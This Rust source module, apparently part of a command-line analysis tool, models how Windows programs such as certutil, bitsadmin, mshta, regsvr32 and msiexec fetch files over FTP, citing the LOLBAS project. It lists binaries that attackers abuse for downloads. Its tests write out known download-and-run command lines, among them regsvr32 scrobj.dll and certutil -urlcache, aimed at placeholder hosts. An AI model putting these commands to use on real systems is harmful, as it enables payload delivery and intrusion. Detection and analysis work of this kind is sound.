//! Windows' own programs given an address: `certutil`, `bitsadmin`, the shell and what it hands addresses to (LOLBAS project,
//! "Download").

use super::call::{Call, Orders};
use super::visit::{Move, SESSIONS, Visit};
use crate::script::session::Session;
use crate::script::transfer::Mode;
use crate::script::url::{self, Url};

/// Programs that load what an address names to run it or to show it, and write no file that the command line names.
const RUNNERS: &[&str] = &[
    "mshta",
    "msiexec",
    "regsvr32",
    "wmic",
    "msxsl",
    "presentationhost",
    "hh",
    "imewdbld",
    "ieexec",
    "xwizard",
    "installutil",
    "cmstp",
    "appinstaller",
    "winword",
    "excel",
    "powerpnt",
];

/// Programs that only show what lies at an address.
const VIEWERS: &[&str] = &[
    "explorer",
    "iexplore",
    "msedge",
    "chrome",
    "firefox",
    "opera",
    "rundll32",
    "start",
    "shellexecute",
    "microsoftedge",
];

/// Why nothing comes of it ("Background Intelligent Transfer Service", supported protocols).
const NO_BITS: &str = "BITS transfers by http, https and SMB, not by FTP: the job fails";

/// Whether a program, by its bare name, loads addresses through the shell.
pub(super) fn is_shell_program(name: &str) -> bool {
    RUNNERS.contains(&name) || VIEWERS.contains(&name) || copies(name)
}

/// Programs that take an address and a file.
fn copies(name: &str) -> bool {
    matches!(name, "gfxdownloadwrapper" | "desktopimgdownldr" | "ftp-download")
}

/// `certutil -urlcache [-split] [-f] ADDRESS [FILE]` and `certutil -verifyctl [-split] [-f] ADDRESS [FILE]`.
pub(super) fn certutil(call: &Call<'_>) -> Option<Orders> {
    let mut verb = None;
    let mut operands = Vec::new();
    for word in call.arguments {
        match word.strip_prefix(['-', '/']) {
            Some(option) => {
                let option = option.to_ascii_lowercase();
                if matches!(option.as_str(), "urlcache" | "verifyctl" | "url" | "ping") {
                    verb = Some(option);
                }
            }
            None => operands.push(word.as_str()),
        }
    }
    verb?;
    let at = operands.iter().position(|word| url::parse(word).is_some())?;
    let url = url::parse(operands.get(at)?)?;
    let output = operands.get(at.saturating_add(1)).copied();
    if output.is_some_and(|word| word.eq_ignore_ascii_case("delete")) {
        return None;
    }
    let (_, name) = url.split_path();
    let local = output.unwrap_or(name);
    let session = load(call, &url, Some(local).filter(|local| !local.is_empty()));
    Orders::of(vec![session])
}

/// `bitsadmin /transfer NAME [/download | /upload] [/priority P] [/aclflags F] [/dynamic] REMOTE LOCAL …` and
/// `bitsadmin /addfile JOB REMOTE LOCAL`. BITS speaks http, https and SMB ("BITS: Supported protocols"): the job fails.
pub(super) fn bitsadmin(call: &Call<'_>) -> Option<Orders> {
    let acts = |word: &String| {
        let option = word.trim_start_matches(['/', '-']).to_ascii_lowercase();
        word.starts_with(['/', '-']) && matches!(option.as_str(), "transfer" | "addfile")
    };
    call.arguments.iter().find(|word| acts(word))?;
    let uploads = call.arguments.iter().any(|word| word.eq_ignore_ascii_case("/upload"));
    let mut sessions = Vec::new();
    let mut words = call.arguments.iter().peekable();
    while let Some(word) = words.next().filter(|_| sessions.len() < SESSIONS) {
        let Some(url) = url::parse(word) else { continue };
        let local = words.next_if(|next| !next.starts_with('/')).map(String::as_str);
        let (directory, name) = url.split_path();
        let mut visit = Visit::to(&url, call, 0);
        visit.enter(directory, true);
        let local = local.map(str::to_owned);
        visit.transfer(if uploads { Move::put(name, local) } else { Move::get(name, local) });
        // Nothing of it ever reaches a server.
        visit.wire.clear();
        visit.doubt(NO_BITS);
        sessions.push(visit.finish());
    }
    Orders::of(sessions).map(|orders| Orders { refused: Some(NO_BITS.to_owned()), ..orders })
}

/// `explorer ftp://…`, `mshta ftp://…`, `regsvr32 /i:ftp://… scrobj.dll`.
pub(super) fn shell(call: &Call<'_>) -> Option<Orders> {
    let mut words = call.arguments.iter().map(String::as_str);
    let url = words.find_map(address_in)?;
    let (_, name) = url.split_path();
    if copies(call.program) {
        let local = words.next().or(Some(name)).filter(|local| !local.is_empty());
        let refused = (call.program == "desktopimgdownldr").then(|| NO_BITS.to_owned());
        return Orders::of(vec![load(call, &url, local)]).map(|orders| Orders { refused, ..orders });
    }
    if RUNNERS.contains(&call.program) && !name.is_empty() {
        let note =
            Some(format!("{} loads and runs what the address names, without a file that it names", call.program));
        return Orders::of(vec![load(call, &url, None)]).map(|orders| Orders { note, ..orders });
    }
    let note = Some("the shell shows what lies at the address; it transfers what its user asks for".to_owned());
    Orders::of(vec![Visit::to(&url, call, 0).finish()]).map(|orders| Orders { note, ..orders })
}

/// The address that a word is or ends in: `/i:ftp://…`, `/format:ftp://…`, `url.dll,FileProtocolHandler ftp://…`.
fn address_in(word: &str) -> Option<Url> {
    let at = url::find(word, 0)?;
    let before = word.get(..at)?.trim_end_matches(['"', '\'']);
    let tail = word.get(at..)?.trim_end_matches(['"', '\'']);
    let fits = before.is_empty() || before.ends_with([':', '=', ',']);
    url::parse(tail).filter(|_| fits && !tail.contains([' ', '\t']))
}

/// One download through WinINet.
fn load(call: &Call<'_>, url: &Url, local: Option<&str>) -> Session {
    let mut visit = Visit::to(url, call, 0);
    visit.login_or_anonymous("IEUser@");
    visit.send_login();
    let (directory, name) = url.split_path();
    visit.enter(directory, true);
    visit.transfer(Move { mode: url.mode.unwrap_or(Mode::Binary), ..Move::get(name, local.map(str::to_owned)) });
    visit.finish()
}

#[cfg(test)]
mod tests {
    use super::super::tests::{check, sessions};
    use crate::script::client::{self, switches};
    use crate::script::launch::{Client, Platform};

    #[test]
    fn downloads_by_windows_own_programs() {
        check(
            Platform::Windows,
            &[
                (
                    "certutil -urlcache -split -f ftp://ann:pw@192.0.2.72/a.b64 a.b64",
                    &["ftp ann:pw@192.0.2.72:21 get a.b64 -> a.b64"],
                ),
                (
                    "certutil.exe /URLCache /f ftp://192.0.2.72/d/x.exe",
                    &["ftp anonymous:IEUser@@192.0.2.72:21 get d/x.exe -> x.exe"],
                ),
                (
                    "certutil -verifyctl -f -split ftp://h.x/a C:\\t\\b",
                    &["ftp anonymous:IEUser@@h.x:21 get a -> C:\\t\\b"],
                ),
                ("certutil -urlcache -f ftp://h.x/a delete", &[]),
                (
                    "bitsadmin /transfer j ftp://192.0.2.73/a.exe C:\\a.exe",
                    &["ftp 192.0.2.73:21 get a.exe -> C:\\a.exe"],
                ),
                (
                    "bitsadmin /transfer j /download /priority high ftp://h.x/a C:\\a ftp://h.x/b C:\\b",
                    &["ftp h.x:21 get a -> C:\\a", "ftp h.x:21 get b -> C:\\b"],
                ),
                ("explorer ftp://ann:pw@192.0.2.76/x", &["ftp ann:pw@192.0.2.76:21"]),
                ("ftp://ann:pw@192.0.2.76/x", &[]),
                ("rundll32 url.dll,FileProtocolHandler ftp://u:p@h.x/a", &["ftp u:p@h.x:21"]),
                ("mshta ftp://u:p@h.x/a.hta", &["ftp u:p@h.x:21 get a.hta -> ?"]),
                ("msiexec /q /i ftp://u:p@h.x/a.msi", &["ftp u:p@h.x:21 get a.msi -> ?"]),
                ("regsvr32 /s /n /u /i:ftp://u:p@h.x/a.sct scrobj.dll", &["ftp u:p@h.x:21 get a.sct -> ?"]),
                ("wmic os get /format:\"ftp://u:p@h.x/a.xsl\"", &["ftp u:p@h.x:21 get a.xsl -> ?"]),
                ("GfxDownloadWrapper.exe ftp://u:p@h.x/a C:\\b", &["ftp u:p@h.x:21 get a -> C:\\b"]),
                ("mshta \"javascript:x('ftp://h.x/a')\"", &[]),
            ],
        );
    }

    #[test]
    fn what_knows_no_ftp_would_not_run() {
        let line = "bitsadmin /transfer j ftp://192.0.2.73/a.exe C:\\a.exe";
        let launch = client::launch(&switches::split_arguments(line), line, Platform::Windows).expect("a launch");
        assert_eq!((launch.client, launch.would_run, launch.tells_all), (Client::Bitsadmin, false, true));
        assert!(sessions(line, Platform::Windows)[0].commands[0].wire.is_empty());
    }
}
